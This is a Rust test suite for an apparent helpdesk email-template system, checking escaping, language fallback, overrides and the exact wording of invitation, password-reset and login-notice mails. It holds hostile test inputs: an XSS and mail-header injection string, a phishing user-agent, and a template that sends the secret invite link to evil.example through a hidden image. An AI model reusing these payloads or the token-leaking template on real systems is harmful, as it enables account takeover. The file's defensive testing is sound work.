use frontdesk_core::{
    ids::{InvitationId, PasswordResetId},
    outbox::{Factor, Notice, PasswordChange, RemovedBy},
    time::Timestamp,
};

use super::{samples::Words, *};

const HOSTILE: &str = "<script>alert(1)</script>\r\nBcc: \"x\"&'y'\u{202e}";
const LINK: &str = "https://desk.example.com/accept#token=";

const AT: Timestamp = Timestamp::from_millis(1_795_909_201_123);

fn company(name: &str) -> Letterhead {
    Letterhead { company: name.to_owned(), ..Letterhead::default() }
}

fn mail(content: MailContent, value: &str) -> SystemMail {
    let link = samples::carries_token(&content).then(|| format!("{LINK}{value}"));
    SystemMail { letterhead: company(value), recipient_name: value.to_owned(), content, link }
}

fn notice(notice: Notice, value: &str) -> SystemMail {
    mail(MailContent::Notice { notice, at: AT, address: Some(value.to_owned()) }, value)
}

/// Every mail in all its ways, with the same value wherever a person could have put one.
fn samples(value: &str) -> Vec<SystemMail> {
    let client = format!("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Firefox/140.0 {value}");
    let words = Words { person: value, thing: value, account: value, address: value, client: &client };
    samples::contents(&words, AT).into_iter().map(|content| mail(content, value)).collect()
}

fn rendered(mail: &SystemMail) -> Rendered {
    Templates::new(Vec::new()).unwrap().render(mail, "en", "en").unwrap()
}

fn languages() -> BTreeSet<&'static str> {
    TEXTS.iter().map(|texts| texts.language).collect()
}

#[test]
fn every_mail_renders_in_every_language_and_escapes_what_people_typed() {
    let templates = Templates::new(Vec::new()).unwrap();
    for language in languages().into_iter().chain(["xx"]) {
        for mail in samples(HOSTILE) {
            let Rendered { subject, text, html } = templates.render(&mail, language, "en").unwrap();
            assert!(!subject.is_empty() && subject.chars().all(|c| !c.is_control()), "{subject:?}");
            assert!(!html.contains("<script>"), "{html}");
            assert!(html.contains("&lt;script&gt;"), "{html}");
            assert!(!html.contains("\"x\"") && !html.contains("'y'"), "attributes stay closed: {html}");
            assert!(text.contains("<script>alert(1)</script> Bcc: \"x\"&'y'"), "{text}");
            assert!(!text.contains("\nBcc:") && !text.contains('\u{202e}') && !html.contains('\u{202e}'));
        }
        for mail in samples("Ada") {
            let Rendered { subject, text, html } = templates.render(&mail, language, "en").unwrap();
            for part in [&subject, &text, &html] {
                assert!(!part.contains("{{") && !part.contains("{%"), "{part}");
            }
            assert!(!text.contains("none") && !text.contains("null"), "{text}");
            let timed = matches!(&mail.content, MailContent::Notice { .. }) || mail.link.is_some();
            let time = if language == "de" { "28. November 2026 um" } else { "28 November 2026 at" };
            for part in [&text, &html] {
                assert_eq!(part.contains(&format!("{time} 23:40 UTC")), timed, "{part}");
            }
            assert!(!text.contains("\n\n\n") && !text.contains(" \n\n"), "{text}");
            assert!(text.ends_with("\n-- \nAda\n"), "{text}");
            assert!(html.contains("<title>") && !html.contains("<title></title>"), "{html}");
            match &mail.link {
                Some(link) => {
                    assert!(text.contains(&format!("\n{link}\n")), "{text}");
                    assert!(html.contains(&format!("href=\"{link}\"")), "{html}");
                }
                // Nothing to follow, so that nobody learns to.
                None => assert!(!text.contains("://") && !html.contains("://") && !html.contains("href")),
            }
        }
    }
}

#[test]
fn every_mail_is_there_in_every_language_is_fit_and_described() {
    let all = samples("Ada");
    let names: BTreeSet<_> = all.iter().map(|mail| mail.content.name()).collect();
    assert_eq!(names, about::MAILS.iter().map(|(mail, _)| *mail).collect());
    assert_eq!(languages(), BTreeSet::from(["de", "en"]));
    let variables = |texts: &Override| {
        let mut engine = engine::new().unwrap();
        engine::add(&mut engine, "new/", texts).unwrap();
        let names = ["subject", "txt", "html"].map(|suffix| {
            let name = format!("new/{}/{}.{suffix}", texts.language, texts.mail);
            engine.get_template(&name).unwrap().undeclared_variables(true)
        });
        names.into_iter().flatten().collect::<BTreeSet<_>>()
    };
    for name in names {
        let english = variables(&built_in(name, DEFAULT_LANGUAGE).unwrap().into());
        for language in languages() {
            let texts: Override = built_in(name, language).unwrap().into();
            assert!(!texts.subject.is_empty() && !texts.text.is_empty() && !texts.html.is_empty());
            // Each says of what it is about as much as the English one, and nothing else.
            assert_eq!(variables(&texts), english, "{language}/{name}");
            assert_eq!(check::check(&texts), Ok(()), "{language}/{name}");
        }
        for (variable, description) in check::described(name) {
            assert!(!description.is_empty(), "{variable} of {name}");
        }
    }
}

fn subject(templates: &Templates, language: &str, default: &str) -> String {
    let mail = mail(MailContent::Welcome { account: "Engines".to_owned() }, "Ada");
    templates.render(&mail, language, default).unwrap().subject
}

#[test]
fn a_language_without_a_text_falls_back() {
    let templates = Templates::new(vec![own("pt", "Olá, {{ company }}")]).unwrap();
    let (english, german) = ("Welcome to Ada", "Willkommen bei Ada");
    for (language, default, expected) in [
        ("en", "de", english),
        ("EN_gb", "de", english),
        ("de-AT", "en", german),
        ("fr", "de-CH", german),
        ("fr", "it", english),
        ("", "", english),
        ("pt-BR", "de", "Olá, Ada"),
        ("fr", "pt", "Olá, Ada"),
    ] {
        assert_eq!(subject(&templates, language, default), expected, "{language} {default}");
    }
}

fn own(language: &str, subject: &str) -> Override {
    let [mail, language, subject] = ["welcome", language, subject].map(str::to_owned);
    Override { mail, language, subject, text: "Hi".to_owned(), html: "<p>Hi</p>".to_owned() }
}

#[test]
fn the_api_wins_over_files_and_a_broken_one_leaves_ours_in_force() {
    let templates = Templates::new(vec![own("de", "file"), own("en", "file")]).unwrap();
    let broken = Override { html: "{% if".to_owned(), ..own("fr", "broken") };
    let failing = own("en", "{{ gone }}");
    templates.take(vec![own("de", "api"), failing, broken], Mark::default()).unwrap();
    assert_eq!(subject(&templates, "de", "en"), "api");
    assert_eq!(subject(&templates, "en", "en"), "Welcome to Ada");
    assert_eq!(subject(&templates, "fr", "en"), "Welcome to Ada");
    let sources = templates.languages("welcome").into_iter().collect::<Vec<_>>();
    assert_eq!(sources, [("de".to_owned(), Source::Api), ("en".to_owned(), Source::Api)]);

    templates.take(Vec::new(), Mark::default()).unwrap();
    assert_eq!(subject(&templates, "de", "en"), "file");
    assert!(!templates.is_outdated(&Mark::default()));
}

#[test]
fn a_template_that_tells_the_link_to_others_is_not_used_whatever_it_did_with_the_sample() {
    let sneaky = "{{ link }}{% if company != \"Example Hosting\" %}<img src=\"https://evil.example/?{{ link }}\">{% endif %}";
    let [mail_name, language, text] = ["staff_invitation", "en", "{{ link }}"].map(str::to_owned);
    let over =
        Override { mail: mail_name, language, subject: "Mine".to_owned(), text, html: sneaky.to_owned() };
    assert_eq!(check::check(&over), Ok(()));
    let templates = Templates::new(vec![over]).unwrap();
    let mail = samples("Ada").remove(0);
    let Rendered { subject, html, .. } = templates.render(&mail, "en", "en").unwrap();
    assert_eq!(subject, "Ada invites you to join Ada");
    assert!(!html.contains("evil"), "{html}");
}

#[test]
fn the_letterhead_stands_in_both_parts() {
    let content = MailContent::Welcome { account: "Engines".to_owned() };
    let logo = "https://example.com/logo.png".to_owned();
    let footer = "Acme <Ltd>\n\n1 Main Street\n".to_owned();
    let letterhead = Letterhead { logo, footer, ..company("Acme") };
    let Rendered { text, html, .. } = rendered(&SystemMail { letterhead, ..mail(content.clone(), "Ada") });
    assert!(text.ends_with("\n-- \nAcme\nAcme <Ltd>\n\n1 Main Street\n"), "{text}");
    assert!(html.contains("src=\"https://example.com/logo.png\" alt=\"Acme\""), "{html}");
    assert!(html.contains("Acme &lt;Ltd&gt;<br>") && html.contains("1 Main Street"), "{html}");

    let footer = "x\n".repeat(500);
    let letterhead = Letterhead { footer, ..company("Acme") };
    let Rendered { text, html, .. } = rendered(&SystemMail { letterhead, ..mail(content, "Ada") });
    assert_eq!(text.matches("\nx").count(), 50, "long ones end somewhere");
    assert!(!html.contains("<img"), "{html}");
}

#[test]
fn a_mail_without_its_link_is_not_sent() {
    for mail in samples("Ada").into_iter().filter(|mail| mail.link.is_some()) {
        let without = SystemMail { link: None, ..mail };
        assert!(
            Templates::new(Vec::new()).unwrap().render(&without, "en", "en").is_err(),
            "{}",
            without.content.name()
        );
    }
}

#[test]
fn a_staff_invitation_reads_well() {
    let content = |inviter: Option<&str>| MailContent::StaffInvitation {
        invitation_id: InvitationId::from_u128(1),
        inviter: inviter.map(str::to_owned),
        role: "Support".to_owned(),
        expires_at: "2026-11-28T23:40:01.123Z".parse().unwrap(),
    };
    let mail = SystemMail {
        letterhead: company("Acme Hosting"),
        recipient_name: "Zoë".to_owned(),
        content: content(Some("Ada Lovelace")),
        link: Some(format!("{LINK}abc")),
    };
    let Rendered { subject, text, .. } = rendered(&mail);
    assert_eq!(subject, "Ada Lovelace invites you to join Acme Hosting");
    assert_eq!(
        text,
        "\
Hello Zoë,

Ada Lovelace invites you to join the staff of Acme Hosting as Support.

Choose your username and password here:

https://desk.example.com/accept#token=abc

The link works once, until Saturday, 28 November 2026 at 23:40 UTC.

If you did not expect this invitation, you can ignore this mail: nothing
happens until somebody opens the link and accepts.

--\u{20}
Acme Hosting
"
    );
    let mail = SystemMail { recipient_name: String::new(), content: content(None), ..mail };
    let Rendered { subject, text, .. } = rendered(&mail);
    assert_eq!(subject, "You are invited to join Acme Hosting");
    assert!(
        text.starts_with("Hello,\n\nYou are invited to join the staff of Acme Hosting as Support.\n"),
        "{text}"
    );
}

#[test]
fn a_password_reset_says_what_it_does_not_do() {
    let content = |address: Option<&str>| MailContent::PasswordReset {
        reset_id: PasswordResetId::from_u128(1),
        address: address.map(str::to_owned),
        expires_at: "2026-11-28T23:40:01.123Z".parse().unwrap(),
    };
    let mail = SystemMail {
        letterhead: company("Acme Hosting"),
        recipient_name: String::new(),
        content: content(Some("203.0.113.9")),
        link: Some("https://desk.example.com/reset-password#token=abc".to_owned()),
    };
    let Rendered { subject, text, .. } = rendered(&mail);
    assert_eq!(subject, "Choose a new password for Acme Hosting");
    assert_eq!(
        text,
        "\
Hello,

A new password was asked for your login at Acme Hosting, from the
address 203.0.113.9. Choose it here:

https://desk.example.com/reset-password#token=abc

The link works once, until Saturday, 28 November 2026 at 23:40 UTC. It does not stand in for a
second factor: if your login has one, you are asked for it as always.

If you did not ask for this, you can ignore this mail: your password stays as
it is until somebody opens the link and chooses another. Pass the link on to
nobody, and if such mails keep coming, tell us.

--\u{20}
Acme Hosting
"
    );
    let Rendered { text, .. } = rendered(&SystemMail { content: content(None), ..mail });
    assert!(text.contains("your login at Acme Hosting. Choose it here:"), "{text}");
}

#[test]
fn a_notice_says_what_when_from_where_and_what_to_do() {
    let client = Some("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0".to_owned());
    let content = MailContent::Notice {
        notice: Notice::LoginFromNewAddress { client },
        at: "2026-11-28T23:40:01.123Z".parse().unwrap(),
        address: Some("2001:db8::9".to_owned()),
    };
    let mail = SystemMail {
        letterhead: company("Acme Hosting"),
        recipient_name: "Zoë".to_owned(),
        content,
        link: None,
    };
    let Rendered { subject, text, .. } = rendered(&mail);
    assert_eq!(subject, "Your login at Acme Hosting was used from a new address");
    assert_eq!(
        text,
        "\
Hello Zoë,

Somebody logged in to Acme Hosting as you, from an address that you have not
used before.

When: Saturday, 28 November 2026 at 23:40 UTC
From: 2001:db8::9
With: Firefox, Linux

If this was you, there is nothing to do.

If it was not, somebody else may have got into your login. Change your
password, end your other sessions, and tell us at once.

You get this mail because it is about the security of your login. It holds no
link on purpose.

--\u{20}
Acme Hosting
"
    );
}

#[test]
fn what_a_browser_calls_itself_is_not_repeated() {
    let client = Some("You are locked out, see https://evil.example Firefox/1".to_owned());
    let Rendered { subject, text, html } =
        rendered(&notice(Notice::LoginFromNewAddress { client }, "203.0.113.9"));
    for part in [subject, text, html] {
        assert!(!part.contains("evil") && !part.contains("locked"), "{part}");
    }
}

#[test]
fn who_did_it_is_told() {
    for (how, expected) in [
        (PasswordChange::Owner, "The password of your login at Ada was changed.\n"),
        (PasswordChange::Reset, "The password of your login at Ada was changed with a reset link.\n"),
        (PasswordChange::Colleague, "An administrator changed the password of your login at Ada.\n"),
        (
            PasswordChange::CommandLine,
            "An administrator changed the password of your login at Ada, on the\nserver itself.\n",
        ),
    ] {
        let text = rendered(&notice(Notice::PasswordChanged { how }, "Ada")).text;
        assert!(text.contains(expected), "{text}");
        let own = matches!(how, PasswordChange::Owner | PasswordChange::Reset);
        assert_eq!(text.contains("If this was you"), own, "{text}");
    }
    for (by, expected) in [
        (RemovedBy::Owner, "The security key \"Ada\" was removed from your login at Ada.\n"),
        (RemovedBy::Colleague, "An administrator removed the security key \"Ada\" from your login at Ada.\n"),
    ] {
        let factor = Factor::SecurityKey { name: "Ada".to_owned() };
        let text = rendered(&notice(Notice::SecondFactorRemoved { factor, by }, "Ada")).text;
        assert!(text.contains(expected), "{text}");
    }
}
